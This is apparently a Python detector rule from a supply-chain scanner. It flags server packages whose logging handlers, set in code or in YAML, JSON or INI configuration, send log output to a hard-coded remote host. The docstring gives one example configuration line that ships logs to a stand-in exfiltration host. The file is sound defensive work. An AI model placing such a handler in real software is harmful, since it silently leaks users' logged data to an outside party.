"""What the server writes to its log is sent to somebody.

**What.** A log is set up so that what is written to it goes to a host that the package fixes: a handler of
Python's `logging` for HTTP, mail, syslog or a socket, a transport of `winston` or `pino`, in the code or in
data from which the log is configured (`dictConfig` of a YAML or JSON file, `fileConfig` of an INI file).

**Why.** Logs hold what tools are called with and what they answer. No line of the code sends anything: a
few words in a data file do, and whoever reads only code does not see it.

**Example.** `handlers: {ship: {class: logging.handlers.HTTPHandler, host: logs.exfil.invalid, url: /in}}`

**Left alone.** Hosts from the environment; this machine and the network around it; a configuration that the
package only brings as an example; what `silent-copy` and `credential-exfiltration` tell already.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import douane_signatures
from douane.detectors._flow import program_of
from douane.detectors._marked import is_server
from douane.detectors._places import evidence_at
from douane.detectors._remote_logs import DATA, configuring, handlers_in, is_own, naming, remote_handlers
from douane.model import Confidence, Severity, Where
from douane.rules import Evidence, Rule

if TYPE_CHECKING:
    from douane.syntax import Codebase

MAX_FILE = 64 * 1024
"""Bytes of a data file in which the configuration of a log is looked for."""


def look(codebase: Codebase) -> Iterator[Evidence]:
    """Yield where a log is sent to a host that the package fixes."""
    program = program_of(codebase)
    whole: dict[str, Any] = douane_signatures.table(DATA)
    table = whole["logs"]
    paths = naming(program)
    if not paths or not is_server(program):
        return
    for call, host in remote_handlers(program):
        yield evidence_at(call, why=_why(host), severity=Severity.MEDIUM)
    if configuring(program):
        yield from _in_data(codebase, table, re.compile(whole["near"]))


def _why(host: str) -> str:
    return f"what is written to the log is sent to {host}, which the package fixes"


def _in_data(codebase: Codebase, table: dict[str, str], near: re.Pattern[str]) -> Iterator[Evidence]:
    """Yield handlers of configurations that are data files of the package."""
    for path in sorted(codebase.tree):
        if re.search(table["data_files"], path) is None or not is_own(path):
            continue
        content = codebase.tree[path]
        if len(content) > MAX_FILE or b"Handler" not in content:
            continue
        text = content.decode("utf-8", "replace")
        for start, host in handlers_in(text, table, near):
            line = text.count("\n", 0, start) + 1
            yield Evidence(
                where=Where(path=path, line=line),
                excerpt=text.splitlines()[line - 1].strip()[:200],
                why=_why(host),
                severity=Severity.MEDIUM,
            )


RULE = Rule(
    id="remote-logging",
    summary="what the server writes to its log is sent to a host that the package fixes",
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    row="supply.code",
    remedy="Ask who keeps these logs; let the user set the host, and leave it out until then.",
    taxonomy=("MCP01:2025", "SAFE-T1505", "AML.T0057"),
    code=look,
)
